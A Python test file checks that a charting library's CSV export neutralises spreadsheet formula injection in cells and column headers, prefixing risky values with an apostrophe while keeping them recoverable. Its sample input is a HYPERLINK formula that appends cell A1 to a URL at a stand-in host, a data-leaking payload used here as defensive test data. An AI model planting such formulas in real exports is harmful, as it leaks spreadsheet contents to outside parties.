"""The table of a chart opens in a spreadsheet as what it is, and can be had back to the letter."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pivot.charts.plotted import Plotted

FORMULA = '=HYPERLINK("https://e.x?"&A1,"open")'


def rows(table: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(Plotted(table).csv(), newline="")))


@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1))
@example(FORMULA)
@example("'=1")
@example("-7.7")
@example("@x")
def test_no_cell_is_a_formula_and_each_can_be_had_back(text: str) -> None:
    _, (company, level) = rows(pd.DataFrame({"company": [text], "level": [-7.7]}))
    assert len(company) == 1 or not company.startswith(("=", "+", "-", "@"))
    assert text == (company[1:] if len(company) > 1 and company[0] == "'" else company)
    assert level == "-7.7"


@pytest.mark.parametrize(("cell", "shown"), [(FORMULA, f"'{FORMULA}"), ("MARA", "MARA"), ("−7.7%", "−7.7%")])
def test_columns_are_held_to_it_too(cell: str, shown: str) -> None:
    assert rows(pd.DataFrame({cell: [1]}))[0] == [shown]
